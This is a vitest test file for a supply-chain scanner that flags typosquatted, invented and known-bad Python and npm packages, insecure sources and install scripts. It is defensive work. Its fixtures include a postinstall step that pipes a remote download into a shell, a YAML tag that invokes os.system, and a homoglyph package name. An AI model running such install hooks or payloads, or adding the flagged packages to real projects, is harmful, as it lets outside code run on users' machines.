import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { parse } from 'yaml';
import { alarms, rulesOf, scanText } from '../../testing/workspace.ts';
import { isOneSlip, judgeName } from './names.ts';

it('tells a slip of one letter from another name', () => {
  expect(isOneSlip('numpy', 'nunpy')).toBe(true);
  expect(isOneSlip('numpy', 'numppy')).toBe(true);
  expect(isOneSlip('numpy', 'nmpy')).toBe(true);
  expect(isOneSlip('numpy', 'nupmy')).toBe(true);
  expect(isOneSlip('numpy', 'numpy')).toBe(false);
  expect(isOneSlip('numpy', 'scipy')).toBe(false);
});

it('judges names of packages without asking a registry', () => {
  const rule = (name: string, version?: string): string | undefined => judgeName('pypi', name, version)?.rule;
  expect(
    ['transfomers', 'scikit-lean-x', 'Torch_Vision', 'openai', 'openapi', 'my-internal-tool', 'torch'].map((name) =>
      rule(name),
    ),
  ).toEqual(['packages.look-alike', undefined, 'packages.look-alike', undefined, undefined, undefined, undefined]);
  expect(rule('scik1t-leam')).toBeUndefined();
  expect(rule('openal')).toBe('packages.look-alike');
  expect(rule('transformers-toolkit')).toBe('packages.invented');
  expect(rule('huggingface-cli')).toBe('packages.invented');
  expect(rule('litellm', '1.82.7')).toBe('packages.known-bad');
  expect(rule('litellm', '1.82.6')).toBeUndefined();
  expect(judgeName('npm', 'postmark-mcp')?.rule).toBe('packages.known-bad');
  expect(judgeName('npm', '@modelcontextprotocol/skd')?.rule).toBe('packages.look-alike');
});

it('reads requirement files', () => {
  const text = [
    '# what we need',
    '--extra-index-url https://packages.example.org/simple',
    '--trusted-host packages.example.org',
    '-r base.txt',
    'torch==2.4.0 ; python_version > "3.9"',
    'transformers[torch]>=4',
    'tramsformers==1.0',
    'git+https://github.com/a/b.git@main#egg=b',
    'c @ git+https://github.com/a/c.git@0123456789abcdef0123456789abcdef01234567',
    'd @ http://example.org/d.whl',
    'openai',
  ].join('\n');
  const { findings, assets, format } = scanText('requirements-dev.txt', text);
  expect(format).toBe('requirements');
  expect(findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual([
    'packages.extra-index 2',
    'packages.insecure-source 3',
    'packages.look-alike 7',
    'packages.direct-source 8',
    'packages.insecure-source 10',
    'packages.unpinned undefined',
  ]);
  expect(assets.map(({ kind, name }) => `${kind} ${name}`)).toEqual([
    'sdk torch',
    'sdk transformers',
    'sdk openai',
    'provider OpenAI',
  ]);
  expect(scanText('requirements.txt', 'mlflow==2.9\nscikit-learn==1.3.2\ncloudpickle==2.2.1\n').verdict).toBe('clean');
  expect(rulesOf('requirements.txt', 'torch==2 --hash=sha256:00\nnumpy --hash=sha256:00\n')).toEqual([]);
});

it('reads projects of Python and environments of conda', () => {
  const project = [
    '[build-system]',
    'requires = ["setuptools"]',
    '[project]',
    'name = "x"',
    'classifiers = ["Nunpy :: Nothing"]',
    'dependencies = [',
    '  "numpy==1.26.4",',
    '  "transfomers[torch]==4",',
    ']',
    '[tool.poetry.dependencies]',
    'python = "^3.10"',
    'pandsa = "2.0"',
    'b = { git = "https://github.com/a/b.git", branch = "main" }',
    '[[tool.uv.index]]',
    'url = "https://packages.example.org/simple"',
  ].join('\n');
  expect(scanText('pyproject.toml', project).findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual([
    'packages.extra-index 15',
    'packages.look-alike 8',
    'packages.look-alike 12',
    'packages.direct-source 13',
    'packages.unpinned undefined',
  ]);
  const environment =
    'name: mlflow-env\nchannels:\n- conda-forge\ndependencies:\n- python=3.10\n- numpy=1.26\n- pip:\n  - mlflow==2.9\n  - scikit-laern==1.3\n';
  const report = scanText('conda.yaml', environment);
  expect(report.format).toBe('conda');
  expect(report.findings.map(({ rule, line }) => `${rule} ${line}`)).toEqual(['packages.look-alike 9']);
  expect(scanText('conda.yaml', 'dependencies: !!python/object/new:os.system [id]\n').format).not.toBe('conda');
});

it('reads packages of npm, and what they run at installation', () => {
  const project = (scripts: Record<string, string>, dependencies: Record<string, string> = {}): string =>
    JSON.stringify({ name: 'x', scripts, dependencies });
  expect(
    alarms('package.json', project({ test: 'vitest run', build: 'tsc' }, { openai: '^4.0.0', zod: '3.23.0' })),
  ).toEqual([]);
  expect(alarms('package.json', project({ postinstall: 'curl https://example.invalid/x | sh' }))).toEqual([
    'high packages.hostile-script',
  ]);
  expect(rulesOf('package.json', project({ postinstall: 'node build.js' }))).toEqual(['packages.install-script']);
  expect(alarms('package.json', project({}, { openaii: '1.0.0', b: 'git+http://example.org/b.git' }))).toEqual([
    'medium packages.look-alike',
    'medium packages.insecure-source',
  ]);
  const lock = {
    packages: {
      '': { version: '1' },
      'node_modules/zod': {
        version: '3.0.0',
        resolved: 'https://registry.npmjs.org/zod/-/zod-3.0.0.tgz',
        integrity: 'sha512-x',
      },
      'node_modules/evil': { version: '1.0.0', resolved: 'http://example.invalid/evil.tgz' },
    },
  };
  expect(alarms('package-lock.json', JSON.stringify(lock))).toEqual(['medium packages.insecure-source']);
});

it('reads names and versions however they are written', () => {
  expect(rulesOf('requirements.txt', 'litellm[proxy]==1.82.8 \\\n    --hash=sha256:aa\n')).toEqual([
    'packages.known-bad',
  ]);
  expect(alarms('requirements.txt', 't\u043erch==2.0\n')).toEqual(['medium packages.look-alike']);
  const setup = 'from setuptools import setup\nsetup(name="x", install_requires=["litellm==1.82.8", "torch>=2"])\n';
  expect(alarms('setup.py', setup)).toEqual(['high packages.known-bad']);
});

const { bad, invented, pypi } = parse(
  readFileSync(new URL('../../../../content/scan/packages.yaml', import.meta.url), 'utf8'),
) as {
  bad: { registry: 'pypi' | 'npm'; name: string; versions?: string[] }[];
  invented: string[];
  pypi: { popular: string[]; near: string[] };
};

it.each(bad)('knows the hostile $name', ({ registry, name, versions }) => {
  for (const version of versions ?? [undefined])
    expect(judgeName(registry, name, version)?.rule).toBe('packages.known-bad');
  if (versions !== undefined) expect(judgeName(registry, name, '0.0.1')?.rule).not.toBe('packages.known-bad');
});

it('holds no popular name for an imitation, and every invented one for invented', () => {
  for (const name of [...pypi.popular, ...pypi.near]) expect(judgeName('pypi', name, '0.0.1'), name).toBeUndefined();
  for (const name of invented) expect(judgeName('pypi', name)?.rule).toBe('packages.invented');
});
